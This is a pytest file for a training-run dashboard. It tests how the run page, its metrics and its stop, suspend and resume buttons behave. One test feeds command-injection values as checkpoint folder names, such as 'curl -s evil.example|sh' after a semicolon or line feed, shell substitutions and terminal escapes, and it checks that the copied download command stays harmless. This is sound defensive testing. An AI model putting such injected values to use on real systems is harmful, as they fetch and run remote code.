"""The page of one run, and its buttons."""

from __future__ import annotations

import html
import json
import re
import shlex
from datetime import UTC, datetime
from typing import Any

import people
import pytest
from builders import NAME, NAMESPACE, RUN_UID, checkpoint_spec, spec_dict
from fakes import RUN, ApiError, stored_run
from goldens import assert_golden
from people import Someone, ended, run_status, stopping

from trainingrun_operator.api import names
from trainingrun_operator.api.run import USER_MAX, TrainingRunSpec
from trainingrun_operator.api.status import Phase, StopMode
from trainingrun_operator.dashboard.actions import Category, Stop, command
from trainingrun_operator.dashboard.run_view import RunView

ADA = Someone("ada")
EVE = Someone("eve", frozenset({"get", "list", "watch"}))
PAGE = f"/runs/{NAMESPACE}/{NAME}"
ASKED = {"uid": RUN_UID, "category": "", "text": "", "mode": "Auto"}
HELD = run_status("Held", termination=stopping("Held", holdReason="s3://bucket answers AccessDenied."))
RELEASING = run_status("Stopping", termination=stopping("Releasing"))


def run_in(status, **spec):
    return stored_run(status=status, spec=spec)


def view(status=None, *, spec=None, **meta):
    return RunView.of(stored_run(status=status, spec=spec, **meta))


def words(text):
    return re.sub(r"\s+", " ", html.unescape(re.sub(r"<[^>]+>", " ", text)))


@pytest.fixture
def shown(visit):
    """The page of a stored run, as somebody sees it."""

    async def page(stored, someone=ADA):
        async with people.cluster(stored, token=someone) as cluster, visit(cluster, "token") as visitor:
            return (await visitor.get(PAGE)).text

    return page


@pytest.fixture
def pressed(visit):
    """What a button of a stored run answers; the run as it is then; and the cluster."""

    async def press(stored, action, someone=ADA, before=lambda _: None, **said):
        async with people.cluster(stored, token=someone) as cluster, visit(cluster, "token") as visitor:
            before(cluster)
            answer = await visitor.press(f"{PAGE}/{action}", {**ASKED, **said})
            return answer, cluster.objects.get(RUN), cluster

    return press


# -- what it shows --------------------------------------------------------------------------------------------


async def test_a_run_that_trains_shows_its_numbers(shown):
    text = words(await shown(run_in(run_status())))
    for said in (
        "Loss 0.4123 Ends below 0.3",
        "Lowest loss 0.4101",
        "Step 1,180 epoch 2 of 3",
        "Progress 66 % about 10 min left",
        "1 GPU so far",
        "Progress is saved up to checkpoint-1100 (step 1,100)",
        "438 MB in 6 files",
        "gpu-1 In use",
        "bert-x7k2p Running on gpu-1",
    ):
        assert said in text


async def test_a_run_on_a_pool_with_a_price_shows_its_cost(shown):
    assert "Cost" not in words(await shown(run_in(run_status())))
    known = {
        "shown": "at least 9.83 USD",
        "amount": 9.83,
        "currency": "USD",
        "perHour": 4,
        "pricedGpus": 1,
        "pricedGpuHours": 2,
    }
    text = words(await shown(run_in(run_status(trained={"seconds": 9000, "cost": known}))))
    assert "Cost at least 9.83 USD of the training so far" in text


@pytest.mark.parametrize(("total", "said"), [(3, "of 3 "), (3.0, "of 3 "), (2.5, "of 2.5 "), (0.5, "of 0.5 ")])
async def test_the_number_of_epochs_may_be_a_fraction(shown, total, said):
    status = run_status()
    status["progress"] = {**status["progress"], "totalEpochs": total}
    assert f"epoch 2 {said}" in words(await shown(run_in(status)))


@pytest.mark.parametrize(
    ("status", "icon", "tone", "said"),
    [
        (ended("auto_complete", "Succeeded", "Training finished with exit code 0."), "check", "good", "Training complete"),
        (ended("auto_low_loss", "Succeeded", "Loss 0.2931 < 0.3 at step 1200."), "check", "good", "Auto-stopped (low loss)"),
        (ended("user_stop", "Stopped", "Stopped by hand: spec.stop is true."), "square", "stopped", "Stopped by user"),
        (ended("failed", "Failed", "Training ended with exit code 3."), "cross", "bad", "Failed"),
        (ended("deleted", "Failed", "The TrainingRun was deleted."), "bin", "quiet", "Deleted"),
    ],
    ids=["complete", "low loss", "user stop", "failed", "deleted"],
)  # fmt: skip
async def test_an_end_is_shown_by_shape_words_and_message(shown, status, icon, tone, said):
    text = await shown(run_in(status))
    assert re.search(rf'class="outcome tone-{tone}">\s*<svg class="icon icon-{icon}"', text)
    assert f'<p class="outcome-title">{said}</p>' in text
    assert status["terminationMessage"] in html.unescape(text)
    assert "stop-button" not in text, "What has ended cannot be stopped."


@pytest.mark.parametrize(
    ("folder", "copied"),
    [
        pytest.param("checkpoint-1200", None, id="an ordinary name"),
        pytest.param("checkpoint-1200;curl -s evil.example|sh;", None, id="words that act"),
        pytest.param("checkpoint-1200'$(id)`id`\"", None, id="quotes and substitutions"),
        pytest.param("checkpoint 1200 -- --delete", None, id="more words"),
        pytest.param(
            "checkpoint-1200\ncurl -s evil.example|sh\n", "plugin", id="a line feed, which runs it without Enter"
        ),
        pytest.param("checkpoint-1200\r\x1b[2K", "plugin", id="terminal sequences"),
        pytest.param("checkpoint-\u202e0021", "plugin", id="text turned around"),
    ],
)
async def test_the_copied_command_downloads_the_checkpoint_and_does_nothing_else(shown, folder, copied):
    uri = f"s3://bucket/runs/ml/bert/{folder}/"
    status = run_status()
    status["checkpoint"] |= {"uri": uri, "dir": folder}
    page = await shown(run_in(status))
    (written,) = re.findall(r'<code id="fetch-command">([^<]*)</code>', page)
    said = html.unescape(written)
    plugin = ["kubectl", "trainingrun", "checkpoints", "download", NAME, "--namespace", NAMESPACE]
    assert shlex.split(said) == (plugin if copied else ["aws", "s3", "sync", uri, "."])
    assert said.isprintable()


@pytest.mark.parametrize("who", ["a person", "anybody"])
async def test_the_last_lines_of_a_log_are_for_people_who_are_logged_in(visit, monkeypatch, who):
    monkeypatch.setattr("trainingrun_operator.dashboard.app.service_account_token", lambda: "own")
    failed = ended("failed", "Failed", "Training crashed once.", lastLogLines="PASSWORD=hunter2")
    stored = run_in(failed)
    async with (
        people.cluster(stored, ada=ADA, own=Someone("dashboard")) as cluster,
        visit(cluster, "ada" if who == "a person" else "", anonymous=True) as visitor,
        visitor.events(f"{PAGE}/events") as events,
    ):
        page = (await visitor.get(PAGE)).text
        part = (await events.wait("part", '"outcome"'))["html"]
    assert "Training crashed once." in page
    assert [("hunter2" in text) for text in (page, part)] == [who == "a person"] * 2


async def test_what_decided_is_shown(shown):
    evidence = [{"what": "loss", "value": "0.2987", "step": 1190}, {"what": "loss", "value": "0.2931", "step": 1200}]
    text = words(
        await shown(
            run_in(
                ended(
                    "auto_low_loss",
                    "Succeeded",
                    "Loss 0.2931 < 0.3 at step 1200.",
                    actor="autoStopLoss",
                    evidence=evidence,
                )
            )
        )
    )
    assert "Samples that decided What Value Step loss 0.2987 1,190 loss 0.2931 1,200" in text
    assert "Requested by autoStopLoss" in text


async def test_how_a_pod_ended_is_shown(shown):
    pod = {"name": "bert-x7k2p", "uid": "u", "node": "gpu-1", "phase": "Failed", "exitCode": 137}
    told = pod | {"exitReason": "OOMKilled", "toldToLeave": "Evicted: The node was low on resource: memory."}
    assert "on gpu-1 · exit code 137 (OOMKilled) told to leave: Evicted: The node" in words(
        await shown(run_in(run_status(pods=[told])))
    )
    plain = words(await shown(run_in(run_status(pods=[pod]))))
    assert "on gpu-1 · exit code 137" in plain
    assert "exit code 137 (" not in plain
    assert "told to leave" not in plain


@pytest.mark.parametrize("phase", list(Phase))
async def test_a_stop_is_shown_phase_by_phase(phase):
    steps = view(run_status("Stopping", termination=stopping(phase.value))).steps
    states = [step.state for step in steps]
    match phase:
        case Phase.DONE:
            assert set(states) == {"done"}
        case Phase.HELD:
            assert states == ["done", "done", "held", "next", "next", "next", "next"]
        case _:
            at = states.index("now")
            assert states == ["done"] * at + ["now"] + ["next"] * (6 - at)
            assert steps[at].at


async def test_a_run_that_does_not_stop_has_no_phases(shown):
    assert "How it ends" not in await shown(run_in(run_status()))


@pytest.mark.parametrize(
    ("status", "spec", "said"),
    [
        pytest.param(None, {}, "has not started, so there is no progress to save.", id="not started"),
        pytest.param({"startTime": "2026-01-02T03:00:00Z"}, {}, "The bucket has no checkpoint yet.", id="nothing yet"),
        pytest.param(run_status(), {}, "Progress is saved up to checkpoint-1100 (step 1,100)", id="a checkpoint"),
        pytest.param(
            {"startTime": "2026-01-02T03:00:00Z", "checkpoint": {"refuted": {"dir": "checkpoint-60", "step": 60, "why": "it is gone"}}},
            {},
            "Checkpoint checkpoint-60 (step 60) was proven and does not verify any more: it is gone.",
            id="a checkpoint that does not verify any more",
        ),
        pytest.param(run_status(), {"checkpoint": {"mode": "Disabled"}}, "so all progress is lost", id="nothing is ever saved"),
    ],
)  # fmt: skip
async def test_the_dialog_says_up_to_where_progress_is_saved(shown, status, spec, said):
    text = await shown(stored_run(status=status, spec=spec))
    dialog = text[text.index('<dialog id="stop-dialog"') : text.index("</dialog>")]
    assert said in words(dialog)
    assert "Stop training “bert”?" in dialog
    assert [Category(each) for each in re.findall(r'<option value="([^"]+)"', dialog)] == list(Category)
    assert [StopMode(each) for each in re.findall(r'type="radio" name="mode" value="(\w+)"', dialog)] == list(StopMode)


async def test_the_dialog_begins_with_the_mode_that_the_run_has(shown):
    text = await shown(run_in(run_status(), stopMode="LastCheckpoint"))
    assert 'value="LastCheckpoint" checked' in text


@pytest.mark.parametrize(
    ("fields", "threshold"),
    [
        ({}, "Ends below 0.3"),
        ({"autoStopAction": "Shadow"}, "Would end below 0.3 (shadow)"),
        ({"autoStopAction": "Off", "autoStopLoss": None}, "No threshold"),
    ],
)
def test_the_threshold_is_told_with_what_it_does(fields, threshold):
    force = run_status()["effective"] | fields
    assert view(run_status(effective=force)).threshold == threshold
    assert view(None).threshold == "No threshold"


async def test_what_the_rules_have_found_is_told_until_a_stop_is_decided(shown):
    found = [{"rule": "autoStopLoss", "reason": "NotBelow", "message": "Loss <b>0.61</b> is not below 0.5."}]
    page = await shown(run_in(run_status(findings=found)))
    assert "autoStopLoss NotBelow Loss <b>0.61</b> is not below 0.5." in words(page)
    assert "<b>0.61</b>" not in page, "A message may quote what a training wrote."
    assert "Why it has not ended" not in await shown(
        run_in(ended("user_stop", "Stopped", "Stopped.") | {"findings": found})
    )


async def test_what_a_shadow_threshold_saw_is_told(shown):
    seen = [{"rule": "autoStopLoss", "wouldStopAt": "2026-01-02T03:00:00Z", "step": 900, "value": "0.49"}]
    assert "autoStopLoss measured 0.49 at step 900" in words(await shown(run_in(run_status(shadow=seen))))


@pytest.mark.parametrize(
    ("rule", "field"),
    [
        ("hang", "Set spec.hangDetection.action to Stop to let it end the run."),
        ("idle", "Set spec.idleDetection.action to Stop to let it end the run."),
        ("budget", "Set spec.budget.onExhausted to Stop to let it end the run."),
        ("plateau", "Set its action to Stop in spec.stopRules to let it end the run."),
    ],
)
async def test_the_field_that_enforces_a_rule_is_named(shown, rule, field):
    seen = [{"rule": rule, "wouldStopAt": "2026-01-02T03:04:05Z", "value": "600"}]
    assert field in words(await shown(run_in(run_status(shadow=seen))))


async def test_what_was_lost_is_told(shown):
    lost = {"dataLoss": "The machine was lost before its last files were saved."}
    assert "The machine was lost before" in words(await shown(run_in(run_status(checkpoint=lost))))


async def test_what_the_training_started_from_and_what_was_lost_before_is_told(shown):
    past: dict[str, Any] = {
        "restored": {
            "pod": "bert-x7k2p",
            "commit": "k/commits/i1-g0002.json",
            "dir": "checkpoint-<b>900",
            "step": 900,
            "passedOver": [{"commit": "i1-g0003", "why": "a.bin has other bytes"}],
        },
        "history": [{"phase": "Suspended", "at": "2026-01-02T03:00:00Z", "dataLoss": "Steps 10 to 20 are lost."}],
    }
    page = await shown(run_in(run_status(**past)))
    assert "Pod bert-x7k2p started from checkpoint-<b>900 of step 900, restored from i1-g0002." in words(page)
    assert "The restore passed over i1-g0003: a.bin has other bytes." in words(page)
    assert "Steps 10 to 20 are lost." in words(page)
    assert "<b>900" not in page, "the training chooses the name"


async def test_where_a_run_is_to_start_from_is_told_before_it_starts(shown):
    spec = {"checkpoint": checkpoint_spec(restoreFrom={"run": "base"})}
    text = words(await shown(run_in({"phase": "Pending"}, **spec)))
    assert f"It is to start from the furthest checkpoint of run {NAMESPACE}/base" in text


async def test_a_run_that_was_refused_says_why(shown):
    refused = {
        "type": "Accepted",
        "status": "False",
        "reason": "NoSuchPool",
        "message": "There is no GPUNodePool a100.",
        "lastTransitionTime": "2026-01-02T03:00:00Z",
    }
    text = words(await shown(run_in({"phase": "Pending", "conditions": [refused]})))
    assert "There is no GPUNodePool a100." in text


def test_gpu_time_is_pods_gpus_times_running_time():
    done = view(ended("auto_complete", "Succeeded", "x"))
    spec = {
        "template": {
            "spec": {"containers": [{"name": "a", "resources": {"limits": {"nvidia.com/gpu": "8"}}}, {"name": "b"}]}
        }
    }
    eight = view(ended("auto_complete", "Succeeded", "x") | {"startTime": "2026-01-02T01:04:05Z"}, spec=spec)
    assert done.gpus == 1
    assert (eight.gpus, eight.gpu_time(None), eight.running_time(None)) == (8, "16 h", "2 h")
    assert (view(None).gpu_time(None), view(None).running_time(None)) == ("Not started", "Not started")
    assert view(None, spec={"template": {"spec": {}}}).gpu_time(None) == "none"


@pytest.mark.parametrize("resource", ["nvidia.com/gpu", "amd.com/gpu"])
def test_gpus_of_every_vendor_count(resource):
    containers = [{"name": "train", "resources": {"limits": {resource: 4, "memory": "8Gi"}}}]
    assert view(None, spec={"template": {"spec": {"containers": containers}}}).gpus == 4


def test_time_in_which_it_was_suspended_is_not_counted():
    at = "2026-01-02T{}:00:00Z".format
    history = [
        {"phase": phase, "at": at(hour)}
        for phase, hour in (("Suspended", "00"), ("Running", "02"), ("Suspended", "04"), ("Running", "06"))
    ]
    woken = view(run_status(startTime=at("02"), history=history))
    assert woken.running_time(datetime(2026, 1, 2, 7, tzinfo=UTC)) == "3 h"
    asleep = view(run_status("Suspended", startTime=at("02"), history=history[:3]))
    assert asleep.gpu_time(datetime(2026, 1, 2, 7, tzinfo=UTC)) == "2 h"


def test_the_log_is_that_of_the_container_that_trains():
    assert view(None).training_container == "train"
    assert view(None, spec={"metrics": {"container": "other"}}).training_container == "other"
    assert view(None, spec={"template": {"spec": {}}}).training_container == ""


async def test_a_run_that_is_not_there_and_one_of_a_newer_operator_are_said(visit):
    async with (
        people.cluster(
            stored_run(status={"nodes": [{"name": "n", "uid": "u", "phase": "Frozen"}]}), ada=ADA
        ) as cluster,
        visit(cluster) as ada,
    ):
        newer = await ada.get(PAGE)
        assert (newer.status, "A newer operator wrote this run" in newer.text) == (502, True)
        missing = await ada.get(f"/runs/{NAMESPACE}/nobody")
        assert (missing.status, "There is no such run" in missing.text) == (404, True)
        assert (await ada.press(f"{PAGE}/stop", ASKED)).status == 400


async def test_who_may_not_read_runs_is_told_so(visit):
    async with people.cluster(stored_run(), eve=Someone("eve", frozenset())) as cluster, visit(cluster, "eve") as eve:
        answer = await eve.get(PAGE)
    assert answer.status == 403
    assert (
        'You may not see this. The API server says: trainingruns.trainingrun.dev is forbidden: User "eve"'
        in html.unescape(answer.text)
    )


# -- when it can be stopped -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("status", "spec", "button"),
    [
        pytest.param(None, {}, "Stop training", id="not seen yet"),
        pytest.param({"phase": "Pending"}, {}, "Stop training", id="pending"),
        pytest.param(run_status(), {}, "Stop training", id="running"),
        pytest.param(run_status(), {"stop": True}, "Stopping…", id="asked for, not seen yet"),
        pytest.param(run_status("Stopping", termination=stopping("Draining")), {}, "Stopping…", id="stopping"),
        pytest.param(RELEASING, {}, "Stopping…", id="releasing"),
        pytest.param(HELD, {}, "End the hold…", id="held"),
        pytest.param(HELD, {"checkpoint": checkpoint_spec(onFailure="Proceed")}, "Stopping…", id="held, and told to proceed"),
        pytest.param(ended("user_stop", "Stopped", "x"), {}, None, id="finished"),
    ],
)  # fmt: skip
async def test_the_button_is_what_can_be_done_and_only_for_who_may(shown, status, spec, button):
    stored = stored_run(status=status, spec=spec)
    text = await shown(stored)
    actions = text[text.index('<div id="actions"') : text.index('<div id="outcome"')]
    found = re.search(r"<button[^>]*class=\"danger\"[^>]*>(.*?)</button>", actions, re.DOTALL)
    assert (words(found[1]).strip() if found else None) == button
    assert ("disabled" in found[0] if found else False) == (button == "Stopping…")
    assert "kubectl patch" in actions or button in (None, "Stopping…")

    looking = await shown(stored, EVE)
    assert "<dialog" not in looking
    assert 'class="danger"' not in looking
    assert "kubectl patch" not in looking


def test_the_command_is_one_that_a_shell_takes_and_does_the_same():
    stop = Stop(Category.OVERFITTING, "it's rising", StopMode.NEXT_CHECKPOINT)
    parts = shlex.split(command("ml", "bert", stop.patch("ada")))
    assert parts[:-1] == ["kubectl", "patch", "trainingrun", "bert", "--namespace", "ml", "--type", "merge", "-p"]
    patch = json.loads(parts[-1])
    assert patch == {
        "spec": {
            "stop": True,
            "stopMode": "NextCheckpoint",
            "stopReason": "overfitting: it's rising",
            "stoppedBy": "ada",
        }
    }
    assert TrainingRunSpec.parse_strict(spec_dict() | patch["spec"]).stopped_by == "ada"


async def test_a_name_that_the_field_cannot_take_is_left_out_of_the_commands(shown):
    page = await shown(run_in(run_status()), people.Someone("x" * (USER_MAX + 1)))
    assert 'data-user=""' in page, "Where run.js takes it from."
    assert "stoppedBy" not in page


# -- stopping -------------------------------------------------------------------------------------------------


async def test_a_stop_is_asked_for_in_the_name_of_who_presses_with_reason_and_mode(pressed):
    answer, stored, cluster = await pressed(
        run_in(run_status()), "stop", category="need the GPU", text=" for  the demo ", mode="LastCheckpoint"
    )
    assert (answer.status, answer.message) == (200, "Stopping…")
    spec = {name: value for name, value in stored["spec"].items() if name.startswith("stop")}
    assert spec == {
        "stop": True,
        "stopReason": "need the GPU: for the demo",
        "stopMode": "LastCheckpoint",
        "stoppedBy": "ada",
    }
    (patch,) = [sent for sent in cluster.sent if sent.method == "PATCH"]
    assert patch.body["metadata"]["uid"] == RUN_UID, "Never another run that has taken the name."
    assert patch.query["fieldManager"] == "trainingrun-dashboard"


async def test_no_reason_is_a_reason_too(pressed):
    _, stored, _ = await pressed(run_in(run_status()), "stop")
    assert "stopReason" not in stored["spec"]


SUSPENDED = run_status(
    "Suspended", termination=stopping("Done", status="suspended", message="Suspended: spec.suspend is true."), pods=[]
)
SUSPENDING = run_status(
    "Stopping", termination=stopping("Saving", status="suspended", message="Suspended: spec.suspend is true.")
)
TOO_LATE = {
    "finished": (run_in(ended("auto_low_loss", "Succeeded", "x")), "stop"),
    "not held": (run_in(run_status()), "proceed"),
    "nothing to release": (run_in(run_status()), "abandon"),
    "another run of that name": (stored_run(status=run_status(), uid="another"), "stop"),
    "stopping, cannot be suspended": (run_in(run_status(), stop=True), "suspend"),
    "ended, cannot be resumed": (run_in(ended("failed", "Failed", "x")), "resume"),
}
INVALID = {
    "unknown reason": {"category": "boredom"},
    "unknown mode": {"mode": "Never"},
    "long reason": {"text": "x" * 1025},
}
REPEATED = {
    "stopping": (run_in(run_status(), stop=True), "stop"),
    "suspended": (run_in(SUSPENDED, suspend=True), "suspend"),
    "not suspended": (run_in(run_status()), "resume"),
}


@pytest.mark.parametrize("case", TOO_LATE)
async def test_a_button_pressed_too_late_changes_nothing(pressed, case):
    answer, _, cluster = await pressed(*TOO_LATE[case])
    assert answer.status == 409
    assert not cluster.lines("PATCH")


@pytest.mark.parametrize("case", INVALID)
async def test_an_invalid_stop_is_refused(pressed, case):
    answer, _, cluster = await pressed(run_in(run_status()), "stop", **INVALID[case])
    assert answer.status == 422
    assert not cluster.lines("PATCH")


@pytest.mark.parametrize("case", REPEATED)
async def test_a_button_pressed_twice_changes_nothing(pressed, case):
    answer, _, cluster = await pressed(*REPEATED[case])
    assert answer.status == 200
    assert not cluster.lines("PATCH")


async def test_the_replies_to_buttons_are_those_of_the_golden_file(pressed):
    invalid = {case: (run_in(run_status()), "stop") for case in INVALID}
    lines = []
    for case, (stored, action) in (TOO_LATE | invalid | REPEATED).items():
        answer, _, _ = await pressed(stored, action, **INVALID.get(case, {}))
        lines.append(f"{action}, {case}: {answer.message}\n")
    assert_golden("dashboard/replies.txt", "".join(lines))


@pytest.mark.parametrize("body", ["", "[]", "7", "{}", '{"uid": 7'])
async def test_a_body_that_no_page_sends_is_refused(visit, body):
    async with people.cluster(run_in(run_status()), ada=ADA) as cluster, visit(cluster) as ada:
        page = await ada.get(PAGE)
        csrf = page.text.partition('data-csrf="')[2].partition('"')[0]
        answer = await ada.post(f"{PAGE}/stop", body, X_CSRF_Token=csrf)
    assert answer.status == 400
    assert not cluster.lines("PATCH")


async def test_who_may_only_look_is_refused_by_the_api_server_in_words(pressed):
    answer, stored, _ = await pressed(run_in(run_status()), "stop", EVE)
    assert answer.status == 403
    assert answer.message.startswith(
        'You may not stop this run. The API server says: trainingruns.trainingrun.dev is forbidden: User "eve" cannot patch'
    )
    assert "stop" not in stored["spec"]


@pytest.mark.parametrize(
    ("refusal", "status", "said"),
    [
        (ApiError(422, "Invalid", "spec.stoppedBy is ada, but you are eve"), 422, "spec.stoppedBy is ada, but you are eve"),
        (ApiError(409, "Conflict"), 409, "try again"),
    ],
)  # fmt: skip
async def test_a_refusal_of_the_api_server_is_passed_on_in_words(pressed, refusal, status, said):
    answer, _, _ = await pressed(
        run_in(run_status()), "stop", before=lambda cluster: cluster.refuse(f"PATCH {RUN}", refusal)
    )
    assert answer.status == status
    assert said in answer.message


async def test_a_held_run_ends_without_its_checkpoint_when_somebody_says_so(pressed):
    answer, stored, _ = await pressed(run_in(HELD), "proceed")
    assert answer.status == 200
    assert stored["spec"]["checkpoint"] == checkpoint_spec(onFailure="Proceed")


@pytest.mark.parametrize(
    ("status", "spec", "words_", "can"),
    [
        pytest.param(run_status(), {}, "Running", {"stop", "suspend"}, id="running"),
        pytest.param(run_status(), {"suspend": True}, "Suspending", {"stop", "resume"}, id="asked for, not seen yet"),
        pytest.param(SUSPENDING, {"suspend": True}, "Suspending", {"stop", "resume"}, id="suspending"),
        pytest.param(SUSPENDED, {"suspend": True}, "Suspended", {"stop", "resume"}, id="suspended"),
        pytest.param(SUSPENDED, {"suspend": False}, "Suspended", {"stop"}, id="told to go on"),
        pytest.param(SUSPENDED, {"suspend": True, "stop": True}, "Stopping", set(), id="ends while it is suspended"),
        pytest.param({"phase": "Suspended"}, {"suspend": True}, "Suspended", {"stop", "resume"}, id="suspended from its beginning"),
        pytest.param(ended("user_stop", "Stopped", "x"), {"suspend": True}, "Stopped by user", set(), id="ended"),
    ],
)  # fmt: skip
async def test_a_suspension_is_no_end_and_can_be_taken_back(shown, status, spec, words_, can):
    seen = view(status, spec=spec)
    assert seen.look.words == words_
    text = await shown(stored_run(status=status, spec=spec))
    actions = text[text.index('<div id="actions"') : text.index('<div id="outcome"')]
    assert set(re.findall(r'data-dialog="(\w+)-dialog"', actions)) == can


async def test_a_suspended_run_shows_how_it_came_to_rest(shown):
    text = words(await shown(stored_run(status=SUSPENDED, spec={"suspend": True})))
    assert "How it is suspended" in text
    assert "Suspended Suspended: spec.suspend is true." in text
    assert {step.state for step in view(SUSPENDED).steps} == {"done"}


@pytest.mark.parametrize(
    ("stored", "action", "status", "said", "suspend"),
    [
        (run_in(run_status()), "suspend", 200, "Suspending…", True),
        (run_in(SUSPENDED, suspend=True), "resume", 200, "Resuming…", False),
    ],
)
async def test_a_run_is_suspended_and_resumed_by_a_button(pressed, stored, action, status, said, suspend):
    answer, after, _ = await pressed(stored, action)
    assert answer.status == status
    assert said in answer.message
    assert after["spec"].get("suspend") == suspend


async def test_nodes_that_are_not_released_are_kept_when_somebody_says_so(pressed):
    answer, stored, _ = await pressed(run_in(RELEASING), "abandon")
    assert answer.status == 200
    assert stored["metadata"]["annotations"] == {names.ABANDON_RELEASE_ANNOTATION: "true"}
    assert not view(RELEASING, annotations=stored["metadata"]["annotations"]).can_abandon
    assert view(RELEASING, annotations={names.ABANDON_RELEASE_ANNOTATION: "false"}).can_abandon
